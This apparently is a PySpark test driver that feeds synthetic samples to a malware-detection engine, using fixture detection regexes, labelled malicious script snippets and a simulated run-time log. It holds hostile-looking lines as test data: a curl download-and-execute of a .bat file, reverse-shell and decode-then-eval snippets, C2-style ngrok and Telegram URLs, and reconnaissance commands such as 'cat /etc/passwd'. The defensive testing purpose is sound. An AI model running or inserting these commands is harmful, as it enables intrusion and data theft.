"""The driver's tables in the roles of the engine's inputs.

Documents stand for files and sent payloads, benchmark items for files read, events for a run-time
log, pages for contacted endpoints, labels for ground truth, orders for versions and
timers. Rules named ``fixture`` exist because the tables hold nothing that the real
rules look for; the real rules run beside them.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from trawl.functions import rules
from trawl.functions.identity import tier_of
from trawl.functions.rules import Rule
from trawl.operators import dynamic, fusion, static
from trawl.session import written_once

FIXTURE_RULES = [
    Rule("FX-1", 40, "all", "primary", "fixture: dotted-quad address (raw IP)", r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
    Rule("FX-2", 45, "all", "primary", "fixture: secret assignment (exfiltration)", r"(?i)\b(?:SECRET|TOKEN|PASSWORD)\b\s*[:=]\s*\S+"),
    Rule("FX-3", 25, "all", "supporting", "fixture: run of marks (tunnel)", r"#{3,}|&{3,}"),
    Rule("FX-4", 30, "all", "supporting", "fixture: hexadecimal run", r"\b[0-9a-f]{32,}\b"),
    Rule("FX-5", 15, "all", "supporting", "fixture: licence line", r"(?i)licen[cs]e"),
]
PACK = [*rules.TEXT_RULES, *FIXTURE_RULES]
#: What a document's language stands for as a removal reason.
CLASSES = {"en": "Malware", "de": "Impersonation;Spam", "fr": "Untrustworthy"}
COMMANDS = ["curl http://files.catbox.moe/x.bat -o a.bat && start a.bat", "whoami /priv", "ipconfig /all", "node server.js", "git status"]
URLS = ["https://abc.ngrok.io/c2", "https://api.telegram.org/bot1/send", "https://example.com/api", "http://8.8.4.7:8080/p"]
SAMPLES = 3000
#: Files that a sample reads; their lines and secrets stay below the cap of a sample's tokens.
ITEMS = 20
#: Script lines and what the call shapes say of them: reason, points, tier.
SCRIPTS = [
    ("eval(atob(p))", "AST: eval()/new Function() over DECODED data (base64/decipher/inflate) — multi-stage loader", 45, "primary"),
    ("new Function('return ' + body)", "AST: dynamic eval()/new Function() on a constructed (non-static) value", 12, "supporting"),
    ("c.createDecipheriv('aes-256-cbc', '0123456789abcdef', iv)", "runtime-decrypts an embedded payload with a hard-coded key (packed second stage)", 45, "primary"),
    ("s.on('data', d => { cp.exec('ls') })", "AST: reverse shell — a socket data handler executes received input as a process", 55, "primary"),
    ("cp.exec(Buffer.from(x, 'hex').toString())", "AST: child_process executing a DECODED command string", 50, "primary"),
    ("cp.spawn(cmd)", "AST: child_process invoked with a non-static/tainted command argument", 12, "supporting"),
    ("fs.writeFile('/x/.config/autostart/a', d)", "AST: writes into an autostart/persistence location", 45, "primary"),
    ("fs.writeFileSync('run.exe', d)", "AST: writes an executable/script payload to disk", 35, "primary"),
    ("fs.createWriteStream(__dirname + '/a.ps1')", "AST: writes an executable payload into a temp/extension directory", 15, "supporting"),
    ("cp.exec('git status'); eval('1')", None, None, None),
    ("plain()", None, None, None),
    # near misses: a comment, a string, a definition, a place that isn't judged; and a call deep in others
    ("// eval(atob(p)); cp.spawn(cmd)", None, None, None),
    ("log('eval(atob(p)) and cp.spawn(cmd)')", None, None, None),
    ("class C { spawn(cmd) { return cmd } }", None, None, None),
    ("fs.writeFileSync('notes.txt', d)", None, None, None),
    ("a(b(c([d({ e: (f(cp.fork(g(h)))) })])))", "AST: child_process invoked with a non-static/tainted command argument", 12, "supporting"),
]
#: What documents are completed with for the count of reconnaissance commands; some only look like one.
PROBES = ["whoami /priv", "net user", "cat /etc/passwd", "tasklist", "systeminfo", "ipconfig /all", "netstat -ano", "arp -a", "net users of the town", "ps auxiliary", "the wmicro", "route printed", "lsof -i", "whoami"]


def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def spread(rows: DataFrame) -> DataFrame:
    """Rows of a scan with fewer parts than the cluster has cores, dealt to all of them; larger scans stay as they are."""
    cores = rows.sparkSession.sparkContext.defaultParallelism
    return rows.repartition(cores) if rows.rdd.getNumPartitions() < cores else rows


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = spread(read(spark, sf_dir, "documents").select("doc_id", "lang", "n_chars", "text"))
    return docs.select(F.col("doc_id").alias("sample_key"), F.concat(F.col("lang"), F.lit("/"), F.col("doc_id").cast("string"), F.lit(".txt")).alias("path"), F.col("n_chars").alias("size"), F.col("text").alias("content"))


def scripts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A script for each document: two of ``SCRIPTS`` in all combinations, and its whole text as a comment."""
    docs = spread(read(spark, sf_dir, "documents").select("doc_id", "text"))
    lines = [line for line, *_ in SCRIPTS]
    comment = F.concat(F.lit("// "), F.regexp_replace("text", "\n", "\n// "))
    content = F.concat_ws("\n", choose(lines, F.col("doc_id")), choose(lines, F.floor(F.col("doc_id") / len(lines))), comment)
    return docs.select(F.col("doc_id").alias("sample_key"), F.lit("src/a.js").alias("path"), F.length(content).cast("long").alias("size"), content.alias("content"))


def document_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    return static.findings(files(spark, sf_dir), PACK)


def document_verdicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return static.static_verdict(document_findings(spark, sf_dir))


def choose(values: list[str], k) -> F.Column:
    return F.element_at(F.array(*map(F.lit, values)), (k % len(values) + 1).cast("int"))


def event_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A log of ``SAMPLES`` samples out of the events; the event type fixes module and function."""
    e = read(spark, sf_dir, "events")
    k = F.get_json_object("props", "$.k").cast("int")
    kind = F.col("event_type")
    odd = F.when(k % 10 == 0, "net/connect").when(k % 10 == 1, "crypto/createDecipheriv").when(k % 10 == 2, "os/hostname").otherwise("dns/lookup")
    call = F.when(kind == "view", "fs/readFile").when(kind == "signup", "https/request").when(kind == "error", "eval/eval").when(kind == "click", "child_process/exec").otherwise(odd)
    path = F.when(k % 25 == 7, "/home/u/setup.exe").otherwise(F.concat(F.lit("/home/u/file"), k.cast("string"), F.lit(".txt")))
    pairs = {"path": F.when(kind == "view", path), "url": F.when(kind == "signup", choose(URLS, k)), "command": F.when(kind == "click", choose(COMMANDS, k))}
    arguments = F.map_from_entries(F.filter(F.array(*(F.struct(F.lit(n).alias("key"), v.alias("value")) for n, v in pairs.items())), lambda p: p["value"].isNotNull()))
    return e.select(
        (F.col("event_id") % SAMPLES).alias("sample_key"), F.col("event_id").cast("int").alias("id"), F.when(F.col("value") > 100, "CRITICAL").otherwise("INFO").alias("severity"),
        F.substring_index(call, "/", 1).alias("module"), F.substring_index(call, "/", -1).alias("function_hooked"), arguments.alias("arguments"),
    )


def beacon_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    sent = event_log(spark, sf_dir).where("module = 'https'")
    url = F.col("arguments")["url"]
    return sent.select("sample_key", F.col("id").alias("seq"), F.lit("https").alias("transport"), url.alias("destination"), F.parse_url(url, F.lit("HOST")).alias("host"), F.lit("POST").alias("method"), F.lit("payload").alias("body"), F.lit(7).alias("body_bytes"), F.lit("").alias("decoded"))


def nothing_stolen(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([], "sample_key long, data_stolen boolean, categories array<string>, suspected array<string>")


def observed(spark: SparkSession, sf_dir: str) -> DataFrame:
    return dynamic.dynamic_verdict(dynamic.observations(dynamic.capped(event_log(spark, sf_dir)), beacon_log(spark, sf_dir), nothing_stolen(spark)))


def fused(spark: SparkSession, sf_dir: str) -> DataFrame:
    return fusion.fuse(document_verdicts(spark, sf_dir), observed(spark, sf_dir))


def result_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A result row for each document: verdict of the rules, label from its quality, class from its language."""
    docs = read(spark, sf_dir, "documents").select(F.col("doc_id").alias("sample_key"), "lang", "source")
    labels = read(spark, sf_dir, "labels").select(F.col("doc_id").alias("sample_key"), (1 - F.col("quality")).alias("label"))
    classes = F.create_map(*(F.lit(x) for pair in CLASSES.items() for x in pair))
    verdict = F.coalesce("verdict", F.lit("BENIGN"))
    rows = docs.join(labels, "sample_key", "left").join(document_verdicts(spark, sf_dir).withColumn("top_reasons", fusion.top_reasons(F.transform("reasons", lambda r: F.struct(F.lit("static").alias("source"), r["points"].alias("points"), r["reason"].alias("reason"))))), "sample_key", "left")
    seen = dynamic.event_summary(event_log(spark, sf_dir)).select("sample_key", "total_events", "http_requests", "child_process_calls")
    rows = rows.join(seen, "sample_key", "left").withColumn("classification", F.coalesce(F.try_element_at(classes, F.col("lang")), F.lit("")))
    number = lambda c: F.coalesce(c, F.lit(0))
    return rows.select(
        F.col("sample_key").alias("doc_id"), "source", "label", tier_of(F.col("classification")).alias("tier"), "classification", verdict.alias("final_verdict"), (verdict == "MALICIOUS").cast("int").alias("final_is_malicious"), (verdict != "BENIGN").cast("int").alias("final_is_flagged"),
        number("score").alias("score"), verdict.alias("static_verdict"), number("total_events").alias("total_events"), number("http_requests").alias("http_requests"), number("child_process_calls").alias("child_process_calls"),
        F.lit(0).alias("data_stolen"), F.lit(0).alias("timers_fired"), (F.col("sample_key") % 50 == 0).cast("int").alias("timed_out"), F.coalesce("top_reasons", F.lit("")).alias("top_reasons"),
    )


def flat_results(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The result rows of a run over all documents: rules, log, fusion and intelligence together."""
    docs, labels = read(spark, sf_dir, "documents").select("doc_id", "lang", "source"), read(spark, sf_dir, "labels").select("doc_id", (1 - F.col("quality")).alias("label"))
    classes = F.create_map(*(F.lit(x) for pair in CLASSES.items() for x in pair))
    named = docs.join(labels, "doc_id", "left").withColumn("classification", F.coalesce(F.try_element_at(classes, F.col("lang")), F.lit("")))
    samples = named.select(F.col("doc_id").alias("key"), F.col("source").alias("dataset"), F.col("doc_id").cast("string").alias("id"), F.lit("1").alias("version"), "label", tier_of(F.col("classification")).alias("tier"), "classification", F.col("lang").alias("target"))
    seen = written_once(observed(spark, sf_dir), "observed")  # read three times
    return fusion.result_rows(samples, fusion.fuse(document_verdicts(spark, sf_dir), seen), seen, dynamic.intelligence(seen))


def reads(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every benchmark item as a file that a sample read, ``ITEMS`` of them each."""
    items = read(spark, sf_dir, "benchmark")
    return items.select(F.floor(F.col("item_id") / ITEMS).alias("sample_key"), F.col("item_id").alias("seq"), F.concat(F.lit("/home/u/"), F.col("item_id").cast("string"), F.lit("/.env")).alias("path"), F.col("text").alias("content"))


def sends(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every document as a payload that one of the samples sent after its reads."""
    samples = read(spark, sf_dir, "benchmark").agg(F.max("item_id")).first()[0] // ITEMS + 1
    docs = spread(read(spark, sf_dir, "documents").select("doc_id", "text"))
    return docs.select((F.col("doc_id") % samples).alias("sample_key"), (F.col("doc_id") + 1_000_000).alias("seq"), F.concat(F.lit("https://host"), (F.col("doc_id") % 7).cast("string"), F.lit(".example/c2")).alias("destination"), F.col("text").alias("payload"))
